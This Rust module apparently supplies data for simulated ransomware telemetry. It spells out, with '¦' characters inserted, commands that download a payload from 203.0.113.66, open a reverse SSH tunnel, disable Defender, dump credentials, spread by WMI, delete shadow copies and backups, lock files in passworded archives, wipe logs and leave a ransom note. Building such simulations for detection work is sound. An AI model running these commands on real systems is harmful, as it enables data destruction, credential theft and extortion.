//! How the unseen set's ransom goes: no program that encrypts, but a packer with a password that nobody has, spread over
//! the disks by the scheduler and over the house by the domain's policy.

use crate::attack::aftermath::{Deed, Left, Ransom, RegistryChange, Set};
use crate::attack::shell::Line;
use crate::program::{CMD, POWERSHELL};
use crate::technique::Technique;
use crate::truth::Weight;

const EXPLORER: &str = "C:\\Windows\\explorer.exe";

/// Where it works.
pub(super) const FOLDER: &str = "C:\\PerfLogs\\Reports";

/// Brought by what a Windows of this age has: `curl` and `tar`, and a tunnel by its own shell for remote work.
pub(super) const BRING: [Line; 5] = [
    Line::powershell(
        Technique::Download,
        Weight::Must,
        "powershell.exe -nop -c \"cu¦rl.exe -sk https://203.0.113.66/r.tgz -o C:\\PerfLogs\\Reports\\r.tgz\"",
        &[(
            "C:\\Windows\\System32\\curl.exe",
            "\"C:\\Windows\\system32\\cu¦rl.exe\" -sk https://203.0.113.66/r.tgz -o C:\\PerfLogs\\Reports\\r.tgz",
        )],
    ),
    Line::powershell(
        Technique::Download,
        Weight::Supporting,
        "powershell.exe -nop -c \"tar.exe -xf C:\\PerfLogs\\Reports\\r.tgz -C C:\\PerfLogs\\Reports\"",
        &[(
            "C:\\Windows\\System32\\tar.exe",
            "\"C:\\Windows\\system32\\tar.exe\" -xf C:\\PerfLogs\\Reports\\r.tgz -C C:\\PerfLogs\\Reports",
        )],
    ),
    Line::powershell(
        Technique::DefenceOff,
        Weight::Must,
        "powershell.exe -nop -c \"Set-Mp¦Preference -DisableIOAV¦Protection 1 -DisableScript¦Scanning 1 -PUAProtection 0; Add-Mp¦Preference -Exclusion¦Path C:\\PerfLogs\\Reports\"",
        &[],
    ),
    Line::powershell(
        Technique::Tunnel,
        Weight::Must,
        "powershell.exe -nop -c \"ss¦h.exe -o StrictHostKeyChecking=no -i C:\\PerfLogs\\Reports\\k -N -R 13389:127.0.0.1:3389 pf@203.0.113.66 -p 443\"",
        &[(
            "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
            "\"C:\\Windows\\System32\\OpenSSH\\ss¦h.exe\" -o StrictHostKeyChecking=no -i C:\\PerfLogs\\Reports\\k -N -R 13389:127.0.0.1:3389 pf@203.0.113.66 -p 443",
        )],
    ),
    Line::powershell(
        Technique::RegistryChange,
        Weight::Must,
        "powershell.exe -nop -c \"sp 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa' DisableRestricted¦Admin 0 -Type DWord\"",
        &[],
    ),
];

/// Of a desktop that came through the tunnel: a look at the house, passwords, and the way to all other servers.
pub(super) const DESKTOP: [Deed; 5] = [
    Deed::new(Technique::Discovery, EXPLORER, "C:\\PerfLogs\\Reports\\nl.exe", "\"C:\\PerfLogs\\Reports\\nl.exe\" "),
    Deed::new(
        Technique::Discovery,
        EXPLORER,
        "C:\\PerfLogs\\Reports\\SharpShares.exe",
        "\"C:\\PerfLogs\\Reports\\SharpShares.exe\" shares 64",
    ),
    Deed::new(
        Technique::CredentialDump,
        EXPLORER,
        "C:\\Windows\\System32\\Taskmgr.exe",
        "\"C:\\Windows\\system32\\taskmgr.exe\" /4",
    ),
    Deed::new(
        Technique::CredentialDump,
        EXPLORER,
        "C:\\PerfLogs\\Reports\\ChromePass.exe",
        "\"C:\\PerfLogs\\Reports\\ChromePass.exe\" /stext C:\\PerfLogs\\Reports\\cp.txt",
    ),
    Deed::new(
        Technique::LateralMove,
        EXPLORER,
        POWERSHELL,
        "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -c \"gc C:\\PerfLogs\\Reports\\hosts.txt | % { Copy-Item C:\\PerfLogs\\Reports\\v.exe \\\\$_\\C$\\PerfLogs\\; Invoke-Wmi¦Method -ComputerName $_ -Class Win32_Pro¦cess -Name Cre¦ate -ArgumentList 'C:\\PerfLogs\\v.exe -q' }\"",
    ),
];

/// In the last hour: copies go, repair is switched off, services stand, the disks are opened and packed.
pub(super) const LAST_HOUR: [Deed; 8] = [
    Deed::new(
        Technique::Ransom,
        CMD,
        "C:\\Windows\\System32\\diskshadow.exe",
        "disk¦shadow  /s C:\\PerfLogs\\Reports\\del.dsh",
    ),
    Deed::new(
        Technique::Ransom,
        CMD,
        "C:\\Windows\\System32\\wbadmin.exe",
        "wb¦admin  delete system¦statebackup -keepVersions:0 -quiet",
    ),
    Deed::new(Technique::Ransom, CMD, "C:\\Windows\\System32\\ReAgentc.exe", "reagent¦c  /dis¦able"),
    Deed::new(Technique::Ransom, CMD, "C:\\Windows\\System32\\icacls.exe", "ica¦cls  D:\\* /grant Everyone:F /T /C /Q"),
    Deed::new(
        Technique::Ransom,
        CMD,
        "C:\\Windows\\System32\\taskkill.exe",
        "task¦kill  /f /im sqlservr.exe /im Microsoft.Exchange.Store.Worker.exe /im edgetransport.exe /im vmwp.exe",
    ),
    Deed::new(
        Technique::Ransom,
        CMD,
        "C:\\PerfLogs\\Reports\\v.exe",
        "C:\\PerfLogs\\Reports\\v.exe  a -ep3 -df -dw -m0 -hp%K% -x*.exe -x*.dll -r D:\\共有.vlt D:\\共有\\*",
    ),
    Deed::new(Technique::Ransom, CMD, "C:\\Windows\\System32\\cipher.exe", "cip¦her  /w:D:\\"),
    Deed::new(
        Technique::LogDeletion,
        CMD,
        POWERSHELL,
        "powershell  -nop -c \"gci C:\\Windows\\System32\\winevt\\Logs\\Archive-*.evtx | Remove-It¦em -Force\"",
    ),
];

/// The scripts that the last hour runs.
pub(super) const SCRIPTS: [(&str, &str); 2] = [
    (
        "C:\\PerfLogs\\Reports\\go.bat",
        "@echo off\r\nset K=\r\nset /p K=<C:\\PerfLogs\\Reports\\k.pub\r\ndisk¦shadow /s C:\\PerfLogs\\Reports\\del.dsh\r\nwb¦admin delete system¦statebackup -keepVersions:0 -quiet\r\nreagent¦c /dis¦able\r\nica¦cls D:\\* /grant Everyone:F /T /C /Q\r\nfor %%p in (sqlservr.exe vmwp.exe edgetransport.exe) do task¦kill /f /im %%p\r\nC:\\PerfLogs\\Reports\\v.exe a -ep3 -df -dw -m0 -hp%K% -r D:\\共有.vlt D:\\共有\\*\r\n",
    ),
    ("C:\\PerfLogs\\Reports\\del.dsh", "del¦ete shadows all\r\n"),
];

/// What signs in are shown, and what starts the packer again after a restart.
pub(super) const POLICY: [RegistryChange; 3] = [
    RegistryChange {
        technique: Technique::Ransom,
        hive: "SOFTWARE",
        key: "Microsoft\\Windows\\CurrentVersion\\Policies\\System",
        name: "legalnoticecaption",
        value: Set::Text("Your files are in the va¦ult. Read VAULT-README.txt and write to vault@example.net"),
    },
    RegistryChange {
        technique: Technique::Ransom,
        hive: "SOFTWARE",
        key: "Microsoft\\Windows\\CurrentVersion\\Run",
        name: "Vault",
        value: Set::Text("C:\\PerfLogs\\Reports\\go.bat"),
    },
    RegistryChange {
        technique: Technique::RegistryChange,
        hive: "SYSTEM",
        key: "ControlSet001\\Control\\Lsa",
        name: "DisableRestrictedAdmin",
        value: Set::Number(0),
    },
];

/// What it leaves: the archive it came in, a dump of the task manager's, and disks' worth of files in packages.
pub(super) const LEFT: [Left; 2] = [
    Left {
        technique: Technique::Download,
        path: "C:\\PerfLogs\\Reports\\r.tgz",
        head: b"\x1f\x8b\x08\0\x5a\x21\x49\x60\0\x03",
        size: 21_504,
    },
    Left {
        technique: Technique::CredentialDump,
        path: "C:\\Users\\minato-sysadm\\AppData\\Local\\Temp\\2\\lsass.DMP",
        head: b"MDMP\x93\xa7\x1d\x5c\x10\0\0\0\x20\0\0\0",
        size: 58_880,
    },
];

/// Packages in place of people's files.
pub(super) const PACKAGES: [Left; 2] = [
    Left {
        technique: Technique::Ransom,
        path: "D:\\共有.vlt",
        head: b"Rar!\x1a\x07\x01\0\x21\x04\0\0\x01\x0f",
        size: 36_864,
    },
    Left {
        technique: Technique::Ransom,
        path: "D:\\Script\\mailbox-list.xlsx.vlt",
        head: b"Rar!\x1a\x07\x01\0\x90\x31\0\0\x01\x0f",
        size: 9_216,
    },
];

pub(super) const RANSOM: Ransom = Ransom {
    service: ("VaultSvc64", "C:\\PerfLogs\\Reports\\v.exe -service"),
    notes: &["D:\\VAULT-README.txt", "C:\\Users\\Public\\Desktop\\VAULT-README.txt"],
    text: "---= VAULT =---\r\n\r\nYour documents, databases and mail are packed with a pass¦word of 48 signs. They are not damaged. Whoever unpacks by force\r\nor restarts the machine loses them.\r\n\r\nPrice: 0.7 BT¦C for each server, 12 for all. You have 72 hours. Write to vault@example.net, name MNT-2210, and attach two\r\nfiles for a free dec¦ryption. After that your papers go to the press.\r\n",
    locked: &[],
};
